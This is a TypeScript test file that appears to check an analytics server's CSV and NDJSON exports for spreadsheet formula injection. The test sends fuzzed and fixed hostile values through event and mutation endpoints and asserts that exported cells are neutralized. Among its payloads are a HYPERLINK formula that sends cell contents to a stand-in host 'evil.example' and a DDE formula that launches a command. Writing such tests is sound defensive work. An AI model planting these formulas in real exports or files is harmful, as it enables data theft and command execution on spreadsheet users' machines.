/** E: injection into a spreadsheet, by what is exported to it. */
import { expect } from 'chai';
import fc from 'fast-check';
import { isText, limits } from '../../../src/protocol/index.js';
import { signToken } from '../../../src/server/access/bearer.js';
import { EXPORTS } from '../../../src/server/experiments/export.js';
import { SECRET } from '../client.js';
import { settled } from './furnish.js';
import { experiment, keepsAsText } from './rows.js';
import { hostile } from './suite.js';

/** The cells of a CSV file (RFC 4180), read by whoever knows nothing of how it was written. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g,
  )) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain!);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

hostile(
  'E exports',
  (category) => {
    category(
      98,
      'formulas for a spreadsheet',
      async (attack) => {
        const { subject, workspace } = attack;
        const signs = [
          '=',
          '+',
          '-',
          '@',
          '\t=',
          '\r=',
          '\n=',
          ' =',
          '\uFEFF=',
          '＝',
          '＋',
          '－',
          '＠',
        ];
        const formulas = signs.flatMap((sign) => [
          `${sign}HYPERLINK("https://evil.example?x="&A1)`,
          `${sign}cmd|' /C calc'!A0`,
          `${sign}1+1","=2`,
          `${sign}1\r\n=2`,
        ]);
        const generated = attack
          .generated(fc.tuple(fc.constantFrom(...signs), fc.string({ maxLength: 12 })))
          .map(([sign, text]) => `${sign}${text}`)
          .filter((text) => isText(text));
        await keepsAsText(attack, [...formulas, ...generated]);
        // What pages send with their public key, and who somebody says they are.
        const printable = (text: string) => !/[\0-\x1f]/.test(text);
        const units = [...formulas, ...generated]
          .filter(printable)
          .map((text) => text.slice(0, 128));
        const at = Date.now();
        const events = units.flatMap((unit, i) => [
          { type: 'conversion', id: `c${i}`, name: 'x', unit, at },
          { type: 'identify', id: `i${i}`, anonymous: unit, unit: `u${i}`, at },
          {
            ...{ type: 'exposure', id: `x${i}`, experiment: 'e', phase: 1, variant: 'v', unit, at },
            dimensions: { page: unit },
          },
        ]);
        for (let i = 0; i < events.length; i += limits.events) {
          const body = { sentAt: at, events: events.slice(i, i + limits.events) };
          const told = await attack.request('events', { path: '/v1/events', body }, 200);
          expect(told.body).not.to.include('"rejected"');
        }
        for (const name of formulas.slice(0, 4)) {
          const token = await signToken(SECRET, { subject: name, workspace, role: 'editor' }, 60);
          const mutation = attack.mutation({
            collection: 'experiments',
            key: 'owned',
            op: 'replace',
            base: formulas.indexOf(name),
            value: experiment('owned', { name, owner: name }),
          });
          const push = { client: `c${formulas.indexOf(name)}`, mutations: [mutation] };
          const headers = { Authorization: `Bearer ${token}` };
          await attack.request(name, { body: push, headers }, 200);
        }
        await settled(attack);
        for (const what of EXPORTS) {
          const text = await subject.ask('export', { workspace, what, format: 'csv' });
          const [columns, ...rows] = cellsOf(text);
          for (const row of rows) {
            expect(row).to.have.length(columns!.length);
            for (const cell of row.filter((value) => !/^-?\d+(\.\d+)?$/.test(value))) {
              expect(cell, what).not.to.match(/^\s*[=+\-@\t\r＝＋－＠]/);
            }
          }
          const lines = await subject.ask('export', { workspace, what, format: 'ndjson' });
          expect(lines.trimEnd().split('\n').filter(Boolean)).to.have.length(rows.length);
        }
        expect(await subject.ask('export', { workspace, what: 'conversions', format: 'csv' }))
          .to.include(`"'=HYPERLINK(`)
          .and.to.include(`"'＠1+1"",""=2"`);
      },
      { stores: true },
    );
  },
  { onBoth: true },
);
